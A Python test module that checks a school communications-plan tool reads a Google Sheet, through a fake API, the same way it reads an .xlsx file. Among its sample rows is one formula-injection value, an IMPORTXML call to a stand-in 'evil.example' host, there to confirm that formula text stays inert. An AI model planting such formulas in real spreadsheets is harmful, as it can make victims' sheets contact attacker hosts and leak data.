"""A Google Sheet gives the same Book, findings and `check` output as the same data in .xlsx,
read in one spreadsheets.get request (plus the token exchange) through gspread and the fake.

The helpers here (the `google` fixture, `sample_tabs`, `seed_both`, `run`) are shared with the
other Google test files.
"""

from __future__ import annotations

import datetime as dt
import json
import shutil
from pathlib import Path

import pandas as pd
import pytest

from commsplan import check, open_book
from commsplan.cli import main
from commsplan.contract import load_contract

FORMULA_TEXT = '=IMPORTXML("http://evil.example/x", "//a")'


@pytest.fixture
def google(monkeypatch, tmp_path, fake_sheets, service_account_file):
    """The fake reached through COMMSPLAN_SHEETS_API, short time-outs, no stray credentials."""
    monkeypatch.setenv("COMMSPLAN_SHEETS_API", fake_sheets.url)
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    monkeypatch.setenv("COMMSPLAN_HTTP_TIMEOUT", "2,3")
    monkeypatch.setenv("COMMSPLAN_HTTP_BACKOFF", "0.01")
    monkeypatch.setenv("COMMSPLAN_HTTP_DEADLINE", "10")
    for name in ("GOOGLE_APPLICATION_CREDENTIALS", "COMMSPLAN_OAUTH_CLIENT", "COMMSPLAN_LANG"):
        monkeypatch.delenv(name, raising=False)
    return fake_sheets


def run(capsys, *argv: str) -> tuple[int, str, str]:
    """Run the CLI in-process: (exit code, stdout, stderr)."""
    code = main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


def _headers(key: str) -> list[str]:
    return [column.header for column in load_contract().tab(key).columns]


def _field(key: str) -> str:
    return load_contract().tab("general").column(key).header


def sample_tabs() -> dict[str, list[list[object]]]:
    """Small data with what tends to differ between sources: dates as cells, as text and with
    a time; "05" as text; whole numbers; yes/no as text and as a boolean; a line break; a
    formula's text; empty cells inside a row; a tab under an alias; an optional tab absent."""
    general = [["Mục", "Giá trị"],
               [_field("parent_body"), "Phòng GD&ĐT Mường Chà"],
               [_field("school_name"), "Trường PTDTBT Tiểu học số 2 Mường Mươn"],
               [_field("school_symbol"), "THMM2"],
               [_field("place_name"), "Mường Mươn"],
               [_field("plan_period"), 2024],
               [_field("school_year"), "2023-2024"],
               [_field("school_year_start"), dt.date(2023, 9, 5)],
               [_field("semester1_end"), "13/01/2024"],
               [_field("school_year_end"), dt.date(2024, 5, 31)],
               [_field("summary"), "Truyền thông về giáo dục năm 2024"],
               [_field("plan_number"), "05"],
               [_field("signer_title"), "HIỆU TRƯỞNG"],
               [_field("signer_name"), "Nguyễn Văn An"]]
    topics = [_headers("topics"),
              [1, "Chuyển đổi số", "Tin bài\nẢnh", dt.date(2024, 3, 1), "31/03/2024", 2],
              [2, "An toàn trường học", "", "", "", ""],
              ["05", "Ngày hội đọc sách", "Video", "", "", 1.0]]
    channels = [_headers("channels"),
                ["Website trường", "Website", "https://thmm2.edu.vn", ""],
                ["Fanpage", "Mạng xã hội", "https://facebook.com/thmm2", "Trang của trường"]]
    cadence = [_headers("cadence"),
               ["Tin bài", "Tin bài, Ảnh", 1, "tháng", "Toàn trường", "tin bài", ""]]
    units = [_headers("units"), ["Tổ 1", "Lò Văn Bình", "Có"], ["Tổ 2", "", True]]
    activities = [_headers("activities"),
                  [dt.date(2024, 3, 5), "Chuyển đổi số", "Tin bài", "05", "Lò Văn Bình", "Tổ 1",
                   "Website trường", "https://thmm2.edu.vn/a", ""],
                  ["06/03/2024", "An toàn trường học", "Ảnh", "Lễ chào cờ", "Lò Thị Cúc", "",
                   "Fanpage", "", "ghi chú"],
                  [dt.datetime(2024, 3, 7, 14, 30), "Chủ đề lạ", "Video", "Clip", "Cúc", "",
                   "Fanpage"],
                  [FORMULA_TEXT, "Chuyển đổi số", "Khác", "Bài", "Bình", "", "Fanpage"],
                  [45362, "Chuyển đổi số", "Tin bài", "", "Bình", "Tổ 9", "Fanpage", "không-link"]]
    plan_text = [_headers("plan_text"), ["Mục đích", "", "Nâng cao nhận thức của cha mẹ học sinh."],
                 ["Nhiệm vụ", "Hiệu trưởng", "Chỉ đạo chung."]]
    recipients = [_headers("recipients"), ["Phòng GD&ĐT", "KH, BC"], ["Lưu: VT", "KH"]]
    return {"Thông tin chung": general, "Nội dung kế hoạch": plan_text, "Chủ đề": topics,
            "Kênh": channels, "Định mức": cadence, "Đơn vị": units, "Nhat ky": activities,
            "Nơi nhận": recipients}


def write_xlsx(path, tabs: dict[str, list[list[object]]]) -> None:
    """The same rows in an .xlsx (dates as date cells, as staff's Excel would hold them)."""
    from openpyxl import Workbook

    workbook = Workbook()
    workbook.remove(workbook.active)
    for name, rows in tabs.items():
        sheet = workbook.create_sheet(name)
        for row in rows:
            sheet.append(row)
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, (dt.date, dt.datetime)):
                    cell.number_format = "DD/MM/YYYY"
                elif isinstance(cell.value, str) and cell.value.startswith("="):
                    cell.data_type = "s"  # text that looks like a formula, as typed with '=
    workbook.save(path)


def seed_both(fake, tmp_path, tabs=None) -> tuple[str, str]:
    """The same tabs in an .xlsx file and in a fake spreadsheet: (xlsx path, sheet URL)."""
    tabs = tabs or sample_tabs()
    path = tmp_path / "data.xlsx"
    write_xlsx(path, tabs)
    key = fake.add_spreadsheet("Kế hoạch truyền thông", tabs)
    return str(path), f"https://docs.google.com/spreadsheets/d/{key}/edit#gid=0"


def assert_same_book(left, right) -> None:
    assert left.tables.keys() == right.tables.keys()
    for key in left.tables:
        pd.testing.assert_frame_equal(left[key].data, right[key].data, check_exact=True,
                                      obj=f"tab {key}")
    assert left.general.values == right.general.values
    assert [(f, f.message("vi")) for f in left.findings] == \
        [(f, f.message("vi")) for f in right.findings]


# The Book ---------------------------------------------------------------------------------

def test_google_book_equals_xlsx_book(google, tmp_path, service_account_file):
    path, url = seed_both(google, tmp_path)
    from_xlsx = open_book(path)
    from_google = open_book(url, credentials=str(service_account_file))
    assert_same_book(from_xlsx, from_google)
    # the tricky cells really were read, not both dropped
    activities = from_google["activities"].data
    assert activities["title"].tolist()[0] == "05"
    assert activities["date"].tolist()[:3] == [pd.Timestamp(2024, 3, 5), pd.Timestamp(2024, 3, 6),
                                             pd.Timestamp(2024, 3, 7)]
    assert from_google.general.values["plan_number"] == 5
    assert from_google.general.values["school_year_start"] == dt.date(2023, 9, 5)
    assert from_google["units"].data["per_unit_cadence"].tolist() == [True, True]
    codes = {f.code for f in from_google.findings}
    assert {"invalid-date", "missing-optional-tab"} <= codes


def test_check_json_is_the_same_from_google_and_xlsx(google, tmp_path, capsys,
                                                     service_account_file):
    path, url = seed_both(google, tmp_path)
    code_x, out_x, _ = run(capsys, "check", path, "--json", "--as-of", "30/06/2024")
    code_g, out_g, err_g = run(capsys, "check", url, "--json", "--as-of", "30/06/2024",
                               "--credentials", str(service_account_file))
    assert (code_g, json.loads(out_g)) == (code_x, json.loads(out_x)), err_g
    assert json.loads(out_g)["findings"], "the sample should have findings to compare"


def test_check_reads_in_one_request_when_every_tab_has_its_name(google, tmp_path, capsys,
                                                               service_account_file):
    from commsplan.sources.google import READ_FIELDS

    tabs = sample_tabs()
    tabs["Nhật ký"] = tabs.pop("Nhat ky")
    tabs["Dư luận"] = [_headers("opinions")]
    tabs["Đề xuất"] = [_headers("proposals")]
    tabs["Lịch năm học"] = [_headers("calendar")]
    tabs["Kỳ nghỉ"] = [_headers("breaks")]
    _, url = seed_both(google, tmp_path, tabs)
    code, out, err = run(capsys, "check", url, "--credentials", str(service_account_file))
    assert code in (0, 1), err
    assert [c.kind for c in google.requests] == ["token", "spreadsheets.get"]
    call = google.calls("spreadsheets.get")[0]
    assert call.arg("fields") == READ_FIELDS  # titles and cells (effectiveValue) together
    assert "ranges" not in call.query  # every tab: a missing one cannot make Google refuse
    assert google.token_grants[0]["scope"] == "https://www.googleapis.com/auth/spreadsheets.readonly"


def test_a_missing_or_aliased_tab_costs_no_more_requests(google, tmp_path, service_account_file):
    _, url = seed_both(google, tmp_path)  # "Nhat ky" under its alias, "Dư luận" absent
    book = open_book(url, credentials=str(service_account_file))
    kinds = [c.kind for c in google.requests if c.kind != "token"]
    assert kinds == ["spreadsheets.get"]
    assert book["activities"].name == "Nhat ky"
    assert len(book["activities"].data) == 5
    assert [f.tab for f in book.findings if f.code == "missing-optional-tab"] == ["Dư luận"]


def test_a_missing_tab_names_the_tab_with_a_near_title(google, service_account_file):
    key = google.add_spreadsheet("Kế hoạch", {"Nhật kí": [_headers("activities")]})
    book = open_book(key, credentials=str(service_account_file))
    missing = next(f for f in book.findings if f.code == "missing-tab" and f.tab == "Nhật ký")
    assert "Bảng tính có trang tính 'Nhật kí' với tên gần giống" in missing.message()


def test_a_sheet_without_any_contract_tab_gives_missing_tab_findings(google,
                                                                     service_account_file):
    key = google.add_spreadsheet("Trống", {"Sheet1": [["a", "b"]]})
    book = open_book(key, credentials=str(service_account_file))
    missing = {f.tab for f in book.findings if f.code == "missing-tab"}
    assert missing == {t.name for t in load_contract().tabs if t.required}


def test_leading_zero_text_and_dates_survive_a_vietnamese_locale(google, tmp_path,
                                                                 service_account_file):
    tabs = sample_tabs()
    path = tmp_path / "data.xlsx"
    write_xlsx(path, tabs)
    key = google.add_spreadsheet("vi", tabs, locale="vi_VN")
    assert_same_book(open_book(str(path)), open_book(key, credentials=str(service_account_file)))


def test_check_takes_the_key_file_from_the_environment(google, tmp_path, capsys, monkeypatch,
                                                        service_account_file):
    _, url = seed_both(google, tmp_path)
    monkeypatch.setenv("GOOGLE_APPLICATION_CREDENTIALS", str(service_account_file))
    code, out, err = run(capsys, "check", url)
    assert code == 1, err
    assert "invalid-date" in out


def test_the_endpoint_override_is_required_to_reach_the_fake(google, tmp_path, capsys,
                                                              monkeypatch, service_account_file):
    """Without COMMSPLAN_SHEETS_API the request goes to Google (unreachable here), not the fake."""
    from commsplan.sources.http import Endpoints

    assert Endpoints("http://x:1").rewrite("https://sheets.googleapis.com/v4/spreadsheets/k") \
        == "http://x:1/v4/spreadsheets/k"
    assert Endpoints("http://x:1").rewrite("https://www.googleapis.com/drive/v3/files/k") \
        == "http://x:1/drive/v3/files/k"
    assert Endpoints().rewrite("https://sheets.googleapis.com/v4/x") \
        == "https://sheets.googleapis.com/v4/x"
    monkeypatch.setenv("COMMSPLAN_SHEETS_API", "ftp://nope")
    code, _, err = run(capsys, "check", "1" + "a" * 40, "--credentials", str(service_account_file))
    assert code == 2
    assert "COMMSPLAN_SHEETS_API" in err


def test_write_back_needs_a_google_sheet(google, tmp_path, capsys):
    path, _ = seed_both(google, tmp_path)
    code, _, err = run(capsys, "check", path, "--write-back")
    assert code == 2
    assert "--write-back" in err and "Google" in err


def test_check_from_google_matches_on_the_api_too(google, tmp_path, service_account_file):
    path, url = seed_both(google, tmp_path)
    as_of = dt.date(2024, 6, 30)
    left = check(open_book(path), as_of)
    right = check(open_book(url, credentials=str(service_account_file)), as_of)
    assert [(f, f.message("en")) for f in left.findings] == \
        [(f, f.message("en")) for f in right.findings]


# The demo workbook, and the plan document ---------------------------------------------------

DEMO = Path(__file__).resolve().parents[1] / "examples" / "ke-hoach-truyen-thong-2024.xlsx"
requires_demo = pytest.mark.skipif(not DEMO.exists(), reason=f"no demo workbook at {DEMO}")


def load_into_fake(fake, path, **options) -> str:
    """Every tab of an .xlsx, as the .xlsx reader sees it, into a new fake spreadsheet."""
    from commsplan.sources.workbook import read_workbook

    raw = read_workbook(path)
    return fake.add_spreadsheet(raw.origin, {t.name: t.rows for t in raw.tables}, **options)


def docx_text(path) -> list[str]:
    """A document's words in order: paragraphs, then every table cell, headers and footers."""
    from docx import Document

    document = Document(str(path))
    lines = [p.text for p in document.paragraphs]
    for table in document.tables:
        lines += [cell.text for row in table.rows for cell in row.cells]
    for section in document.sections:
        lines += [p.text for p in section.header.paragraphs + section.footer.paragraphs]
    return lines


@requires_demo
def test_the_demo_checks_the_same_from_google(google, capsys, service_account_file):
    key = load_into_fake(google, DEMO, locale="vi_VN")
    code_x, out_x, _ = run(capsys, "check", str(DEMO), "--json", "--as-of", "31/12/2024")
    google.requests.clear()
    code_g, out_g, err = run(capsys, "check", key, "--json", "--as-of", "31/12/2024",
                             "--credentials", str(service_account_file))
    assert (code_g, json.loads(out_g)) == (code_x, json.loads(out_x)), err
    assert [c.kind for c in google.requests] == ["token", "spreadsheets.get"]


def _commands() -> set[str]:
    from commsplan.cli import build_parser

    return set(build_parser()._subparsers._group_actions[0].choices)


@requires_demo
@pytest.mark.parametrize("command, options, words", [
    ("plan", [], "KẾ HOẠCH"),
    ("report", ["--period", "2024-Q1"], "BÁO CÁO"),
])
def test_a_document_from_google_is_the_document_from_xlsx(google, tmp_path, capsys, command,
                                                          options, words,
                                                          service_account_file):
    if command not in _commands():
        pytest.skip(f"no `commsplan {command}` yet")
    key = load_into_fake(google, DEMO)
    from_xlsx, from_google = tmp_path / "x.docx", tmp_path / "g.docx"
    source = tmp_path / "so-lieu.xlsx"  # an issued document's hash goes into its row
    shutil.copy(DEMO, source)
    code, _, err = run(capsys, command, str(source), *options, "-o", str(from_xlsx),
                       "--as-of", "31/12/2024")
    assert code == 0, err
    code, _, err = run(capsys, command, key, *options, "-o", str(from_google),
                       "--as-of", "31/12/2024", "--credentials", str(service_account_file))
    assert code == 0, err
    assert docx_text(from_google) == docx_text(from_xlsx)
    assert any(words in line for line in docx_text(from_google))
